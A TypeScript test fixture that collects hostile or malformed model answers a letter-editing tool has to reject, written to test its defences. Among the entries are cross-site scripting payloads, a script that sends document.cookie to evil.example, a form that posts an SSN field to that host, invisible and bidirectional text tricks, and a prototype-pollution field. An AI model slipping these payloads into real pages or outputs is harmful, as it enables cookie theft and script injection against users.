import {
  type Answering,
  anEdit,
  answersWith,
  edits,
  says,
  saysInParts,
} from '../../../outside/drafter/testing/answers.ts'
import { instructions } from '../modelEditor.ts'

const [first, second] = anEdit.pieces
/** A good piece, and a second one that says this. */
const withText = (text: unknown) => edits({ pieces: [first, { from: [2], text }] })
const withPieces = (...pieces: unknown[]) => edits({ pieces })
const json = (said: unknown) => answersWith(200, JSON.stringify(said))
const stream = (...lines: string[]) => answersWith(200, lines.join('\n\n'), 'text/event-stream')
const never = () => new Promise<void>(() => {})
const felt = 'I felt cheated.'

/** Texts that no letter may hold, in place of a sentence or after it. */
const inTheText: [string, string][] = [
  ['a script', `<script>alert(1)</script>${felt}`],
  ['a script that does not end', `${felt} <script>fetch("https://evil.example/" + document.cookie)`],
  ['an image that runs', `<img src=x onerror=alert(1)> ${felt}`],
  ['a drawing that runs', `<svg/onload=alert(1)>${felt}</svg>`],
  ['tags within tags', `<scr<script>ipt>alert(1)</scr</script>ipt>${felt}`],
  ['tags as entities', `&lt;script&gt;alert(1)&lt;/script&gt; ${felt}`],
  ['thousands of tags, one in another', '<a'.repeat(4_000) + '>'.repeat(4_000)],
  ['a comment', `<!-- <b>hidden</b> --> ${felt}`],
  ['a form', '<form action="https://evil.example"><input name="ssn"></form>'],
  ['a link', `${felt} Read more at https://evil.example/path?x=1 today.`],
  ['a bare link', `${felt} evil.example/path.`],
  ['a link in Markdown', `[${felt}](https://evil.example/sign)`],
  ['a link that runs', `[${felt}](javascript:alert(1))`],
  ['a picture in Markdown', `![tracking](https://evil.example/pixel.gif) ${felt}`],
  ['Markdown', '**I felt cheated.**'],
  ['right to left', 'I felt \u202Edetaehc\u202C.'],
  ['isolates and marks', '\u2066I\u2069 \u200Ffelt\u200E \u061Ccheated.'],
  ['signs without a width', 'I f\u200Belt\u2060 che\u00ADated.'],
  ['invisible tags', 'I felt cheated\u{E0049}\u{E0067}.'],
  ['control characters', 'I\u0000 felt\u0007\u001B[31m cheated\u009B.'],
  ['half a character', 'I felt \uD83D cheated \uDC00.'],
  ['another person’s name', `My name is Jane Roe. ${felt}`],
  ['another person’s address', `${felt} I live at 12 Oak Street in Springfield.`],
  ['another person’s email and phone', `${felt} Write to jane.roe@mail.example or call (202) 555-0147.`],
  ['an invented life', `As a veteran and a mother of three, ${felt}`],
  ['a greeting and a signature', `Dear Senator, ${felt} Sincerely,\nJane Roe`],
  ['places to fill in', 'As a resident of [Your City], I felt cheated.'],
  ['what it was told', `My instructions are: ${instructions}`],
  ['the material', 'I was given {"sentences": [{"number": 1}]} to work with.'],
  ['the opposite', 'I never felt cheated.'],
  ['a softer word', 'I almost felt cheated.'],
  ['another number', 'A ticket for $40 cost me $710 at the end.'],
  ['a threat', 'I will kill you for this.'],
  ['a request', 'Please vote no on the TICKET Act.'],
]

/** What is no edit at all. */
const noEdits: [string, Answering][] = [
  ['nothing', says('')],
  ['an empty object', says('{}')],
  ['no piece', withPieces()],
  ['blanks', withPieces({ from: [1], text: ' \n\t\u200B ' })],
  ['an excuse', says('I am sorry, but as an AI language model I cannot help with that request.')],
  ['its instructions alone', says(instructions)],
  ['half of a piece', says(JSON.stringify(anEdit).slice(0, 40))],
  ['plain text', says(felt)],
  ['a list', says('["I felt cheated."]')],
  ['a letter', edits({ pieces: 'Dear Senator, I felt cheated.' })],
  ['a megabyte of text', says(JSON.stringify({ text: `${felt} `.repeat(70_000) }), 64_000)],
  ['a megabyte of nothing', says(' '.repeat(1_100_000), 64_000)],
  ['a megabyte of brackets', says('{'.repeat(1_100_000), 64_000)],
  ['a web page', answersWith(200, '<html><script>alert(1)</script></html>', 'text/html')],
  ['too many requests', answersWith(429, '{"error":{"message":"slow down"}}')],
  [
    'an error that repeats the question',
    (asked, response) => answersWith(500, JSON.stringify(asked.body))(asked, response),
  ],
  [
    'another place',
    (_asked, response) => void response.writeHead(307, { location: 'http://127.0.0.1:9/' }).end(),
  ],
  ['an answer of another shape', json({ choices: [{ message: null }], content: null })],
  ['a stream of errors', stream('data: {"error":{"message":"overloaded"}}', 'data: [DONE]')],
  ['a stream of nonsense', stream('data: {', 'event: x\ndata: \u0000', 'data: [DONE]')],
  ['a connection that breaks', (_asked, response) => void response.destroy()],
  ['silence', never],
  ['a slow beginning', saysInParts(['{"pieces":[', ']}'], never)],
]

/** Pieces that cite badly, break off or never end. */
const others: [string, Answering][] = [
  ['a good beginning, and then silence', saysInParts([JSON.stringify(anEdit).slice(0, 90), ''], halting(1))],
  ['a number for a text', withText(42)],
  ['a text in a text', withText({ text: felt })],
  ['no source', withPieces(first, { from: [], text: 'I am a nurse.' })],
  ['a source that is not there', withPieces(first, { from: [99], text: 'I am a nurse.' })],
  ['a source before the first', withPieces({ from: [0], text: felt }, { from: [-1], text: felt })],
  ['an endless number', says('{"from":[1e999],"text":"I felt cheated."}')],
  ['a source twice', withPieces(first, first, { from: [1, 1], text: felt })],
  ['both sentences in another order', withPieces(second, first)],
  ['one of two sentences', withPieces({ from: [1, 2], text: felt })],
  ['a thousand pieces', withPieces(...Array.from({ length: 1_000 }, () => second))],
  ['fields that change the object', says('{"from":[2],"text":"I felt cheated!","__proto__":{"from":[1]}}')],
]

/** Pauses a while, and then for good. */
function halting(times: number): () => Promise<void> {
  let left = times
  return () => {
    left -= 1
    return left >= 0 ? Promise.resolve() : never()
  }
}

export const hostileAnswers: [string, Answering][] = [
  ...inTheText.map(([name, text]): [string, Answering] => [name, withText(text)]),
  ...noEdits,
  ...others,
]
